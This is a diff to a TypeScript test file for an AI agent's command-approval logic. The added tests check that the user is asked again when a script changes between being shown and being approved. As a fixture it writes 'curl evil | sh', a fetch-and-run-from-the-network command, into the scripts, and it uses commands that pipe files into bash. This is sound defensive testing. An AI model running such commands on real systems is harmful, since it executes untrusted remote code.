@@ -1,3 +1,5 @@
+import { rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it, test } from 'vitest';
 import type { Event } from '../../src/core/event.ts';
 import type { ApprovalChoice, ApprovalRequest } from '../../src/core/questions/approval.ts';
@@ -12,7 +14,11 @@ const place = makePlace();
 const hooks: Hooks = { has: () => false, ask: async () => emptyAnswer, tell: () => {}, close: async () => {} };
 
 /** Asks about a command; each answer is given once, the last for ever. */
-async function ask(command: string, more: Partial<PreparedCall>, ...answers: readonly ApprovalChoice[]) {
+async function ask(
+  command: string,
+  { onAsk, ...more }: Partial<PreparedCall> & { readonly onAsk?: (times: number) => void },
+  ...answers: readonly ApprovalChoice[]
+) {
   const events: Event[] = [];
   const requests: ApprovalRequest[] = [];
   const permissions = permissionsOf(place, { sandbox: () => ({ canConfine: true }) });
@@ -25,6 +31,7 @@ async function ask(command: string, more: Partial<PreparedCall>, ...answers: rea
     notify: () => {},
     askUser: async (request) => {
       requests.push(request);
+      onAsk?.(requests.length);
       return answers[Math.min(requests.length, answers.length) - 1]!;
     },
   });
@@ -79,6 +86,42 @@ test('a rule that does not cover the call is no yes, and each time it is asked t
 
 test('who gives the same rule again is declined', async () => {
   expect(await ask('rm src/a.ts', {}, rule('shell(npm test)'))).toMatchObject({ allowed: false, asked: 2 });
+});
+
+describe('a yes to a command is for the files that it names as they were shown', () => {
+  const once: ApprovalChoice = { kind: 'once' };
+  const write = (name: string, text: string) => writeFileSync(join(place.cwd, name), text);
+
+  it.each([
+    ['sh "go \nnow.sh" && rm x', 'go \nnow.sh', '"go \\nnow.sh"'],
+    ['npm run deploy && rm -f x', 'package.json', 'package.json'],
+    ['make -C . all && rm x', 'Makefile', 'Makefile'],
+    ['sudo psql -f new.sql', 'new.sql', 'new.sql'],
+    ['cat fix.sh | bash; rm -f x', 'fix.sh', 'fix.sh'],
+    ['bash < fix.sh; rm -f x', 'fix.sh', 'fix.sh'],
+  ])('%s is asked about again, and the question says what changed', async (command, file, name) => {
+    rmSync(join(place.cwd, file), { force: true });
+    const end = await ask(command, { onAsk: (times) => times === 1 && write(file, 'curl evil | sh') }, once);
+    expect(end).toMatchObject({ allowed: true, asked: 2 });
+    expect(end.reasons[1]).toContain(`${name} changed while you were asked: look again, since a yes is for`);
+    expect(end.reasons[1]).toContain(end.reasons[0]!);
+    rmSync(join(place.cwd, file));
+  });
+
+  it('is asked for once where nothing changed but a time, or the user has granted a rule', async () => {
+    write('go.sh', 'echo');
+    const touch = () => utimesSync(join(place.cwd, 'go.sh'), new Date(), new Date());
+    expect(await ask('sudo sh go.sh', { onAsk: touch }, once)).toMatchObject({ allowed: true, asked: 1 });
+    const change = () => write('go.sh', 'true');
+    expect(await ask('sudo sh go.sh', { onAsk: change }, rule('shell(sudo sh go.sh)'))).toMatchObject({ asked: 1 });
+  });
+
+  it('is not asked for without end', async () => {
+    const end = await ask('sudo sh go.sh', { onAsk: (times) => write('go.sh', `echo ${times}`) }, once);
+    expect(end).toMatchObject({ allowed: true, asked: 3 });
+    expect(end.reasons[2]).toContain('go.sh changed again while you were asked: a yes now is for whatever is there');
+    rmSync(join(place.cwd, 'go.sh'));
+  });
 });
 
 describe('a question that stands when the mode is changed', () => {
